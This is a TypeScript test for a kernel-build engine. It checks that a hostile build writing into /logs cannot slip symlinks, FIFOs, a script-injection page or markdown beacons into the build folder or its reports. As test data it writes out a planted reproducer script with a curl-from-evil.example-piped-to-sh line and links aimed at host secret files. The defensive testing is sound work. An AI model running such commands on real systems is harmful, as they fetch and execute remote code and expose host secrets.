import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, lstatSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { makeToyKernel } from '../support/toy-kernel.ts';
import { runEngine } from '../support/engine-run.ts';
import { tempDir } from '../support/temp-dir.ts';

// A toy tree whose build is an attacker of what it leaves under /logs (issue 18, class 3):
// links to host files, a FIFO, a link to /dev/zero, a reproducer planted for a target that
// passes, a page beside ours, and a toolchains.txt laden with markdown. Only the layout's
// files reach the build's folder; every report is written; no host file appears anywhere.

test('a build that plants links, FIFOs, scripts, pages and markdown under /logs gets none of them into its folder or reports', async () => {
  const host = tempDir('host');
  const secret = join(host, 'secret');
  const victim = join(host, 'victim');
  writeFileSync(secret, 'HOST-SECRET-TOKEN\n');
  writeFileSync(victim, 'the runner\'s own file\n');
  const hostile = [
    'echo "  CC      init/main.o"',
    `ln -sf ${victim} /logs/results.json`,
    `ln -sf ${victim} /logs/index.html`,
    `ln -sf ${secret} /logs/arm64/tinyconfig.log`,
    'ln -sf /dev/zero /logs/arm64/tinyconfig.config',
    'mkfifo /logs/x86/stuck',
    'printf "#!/bin/sh\\ncurl https://evil.example | sh\\n" > /logs/arm64/tinyconfig.reproduce.sh',
    'echo "<script>alert(1)</script>" > /logs/evil.html',
    'printf "x86\\tgcc \\` ![pwned](https://evil.example/p.png) \\`\\n" > /logs/toolchains.txt',
    'echo "  LD      vmlinux"',
  ].join('\n');
  // arm64 plants while x86 passes: the arm64 target fails (its log is a link, left out), x86 passes.
  const script = `case $ARCH in\nx86) echo "  CC      init/main.o"; echo "  LD      vmlinux" ;;\narm64) sh -c '${hostile.replace(/'/g, "'\\''")}'; exit 1 ;;\nesac\n`;
  const src = makeToyKernel(script);
  const { results, reports, logs, log } = await runEngine({ source: src, ref: 'v6.1', arches: 'x86 arm64', configs: 'tinyconfig' });
  assert.equal(readFileSync(victim, 'utf8'), 'the runner\'s own file\n', 'nothing was written through a link');
  const buildDir = join(reports.results, '..');
  const everything = readdirSync(buildDir, { recursive: true }) as string[];
  for (const name of everything) {
    const st = lstatSync(join(buildDir, name));
    assert.ok(st.isFile() || st.isDirectory(), `${name} is neither a file nor a folder`);
  }
  for (const planted of ['evil.html', 'x86/stuck', 'arm64/tinyconfig.config']) assert.ok(!existsSync(join(buildDir, planted)), planted);
  // The reproducer beside arm64 is the host's (arm64 failed), never the planted one.
  assert.doesNotMatch(readFileSync(join(buildDir, 'arm64/tinyconfig.reproduce.sh'), 'utf8'), /evil\.example/);
  assert.ok(!existsSync(join(buildDir, 'x86/tinyconfig.reproduce.sh')), 'no reproducer for the target that passed');
  const files = (readdirSync(logs, { recursive: true }) as string[]).filter((n) => lstatSync(join(logs, n)).isFile());
  for (const name of ['results.json', 'summary.md', 'kcidb.json', 'junit.xml', 'index.html']) assert.ok(files.some((f) => f.endsWith(`/${name}`)), name);
  assert.ok(files.some((n) => n.startsWith('emails/')));
  for (const name of files) assert.doesNotMatch(readFileSync(join(logs, name), 'utf8'), /HOST-SECRET-TOKEN|<script>alert/, `${name} holds what it must not`);
  // The toolchains line: one code span in summary.md, its markdown inert.
  const summary = readFileSync(reports.summary, 'utf8');
  const toolchains = summary.split('\n').find((l) => l.startsWith('Toolchains:'))!;
  assert.equal(toolchains.split('`').length - 1, 2 * Object.keys(results.toolchains!).length, toolchains);
  assert.deepEqual(results.targets.map((t) => [t.target, t.status]), [['x86/tinyconfig', 'pass'], ['arm64/tinyconfig', 'fail']]);
  const gate = log.lines.filter((l) => l.startsWith('warning: left out of '));
  assert.equal(gate.length, 1, log.lines.join('\n'));
  for (const name of ['results.json', 'index.html', 'evil.html', 'x86/stuck', 'arm64/tinyconfig.log', 'arm64/tinyconfig.config', 'arm64/tinyconfig.reproduce.sh']) {
    assert.ok(gate[0].includes(JSON.stringify(name)), `${name}: ${gate[0]}`);
  }
  // The staging folder is gone.
  assert.deepEqual(readdirSync(join(buildDir, '..')).filter((n) => n.includes('staging')), []);
});
